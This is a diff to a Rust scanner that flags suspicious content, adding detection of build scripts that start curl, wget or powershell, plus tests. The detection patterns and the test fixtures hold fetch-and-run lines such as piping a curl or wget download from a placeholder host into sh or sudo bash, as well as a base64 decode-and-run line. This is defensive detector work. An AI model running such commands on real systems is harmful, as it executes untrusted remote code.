@@ -108,7 +108,11 @@ const PICKLES: &[&[u8]] = &[
 /// Everything that is looked for in texts, found in one go: what runs, what goes into a shell, and two words more.
 static WORDS: LazyLock<AhoCorasick> = LazyLock::new(|| {
     table(
-        RUNS.iter().copied().chain(SOURCES.iter().map(|(word, _)| *word)).chain([MODULE, NAME, SEND, UNPACK]),
+        RUNS.iter()
+            .copied()
+            .chain(SOURCES.iter().map(|(word, _)| *word))
+            .chain([MODULE, NAME, SEND, UNPACK])
+            .chain(FETCHERS.iter().copied()),
     )
 });
 static CALLS: LazyLock<AhoCorasick> = LazyLock::new(|| table(PICKLES.iter().copied()));
@@ -123,6 +127,10 @@ const NAME: &[u8] = b"_0x";
 const SEND: &[u8] = b"fetch(";
 /// One expression that imports what it decodes with, as nobody writes who has an `import`.
 const UNPACK: &[u8] = b".decompress(__import__(";
+
+/// Programs that fetch, started from Rust: what a build script has no good reason to do.
+const FETCHERS: &[&[u8]] =
+    &[b"Command::new(\"curl\")", b"Command::new(\"wget\")", b"Command::new(\"powershell\")"];
 
 /// Tells whether bytes begin as a pickle does: with its protocol, or as protocol 0 writes calls and collections.
 pub(super) fn may_be_pickle(start: &[u8]) -> bool {
@@ -183,6 +191,8 @@ pub(super) fn read(bytes: &[u8], found: &mut BTreeSet<String>) {
             }
         } else if number == RUNS.len() + SOURCES.len() + 3 {
             add("decode-and-run/nested");
+        } else if number > RUNS.len() + SOURCES.len() + 3 {
+            add("fetch-and-run/command");
         } else if bytes.get(at + 3..at + 7).is_some_and(|digits| digits.iter().all(u8::is_ascii_hexdigit)) {
             names += 1;
             if names == NAMES_MIN {
@@ -318,6 +328,9 @@ mod tests {
         check(b"curl -s http://x.invalid/a | sh\n", &["fetch-and-run/pipe"]);
         check(b"wget -qO- x.invalid | sudo /bin/bash -s\n", &["fetch-and-run/pipe"]);
         check(b"echo eA== | base64 -d | sh\n", &["decode-and-run/pipe"]);
+        let command: &[&str] = &["fetch-and-run/command"];
+        check(b"std::process::Command::new(\"curl\").arg(u).status()", command);
+        check(b"std::process::Command::new(\"git\").arg(\"curl\").status()", &[]);
         check(b"curl x.invalid | tar x\nls | sh\n", &[]);
         check(b"base64 -d x > y\n", &[]);
     }
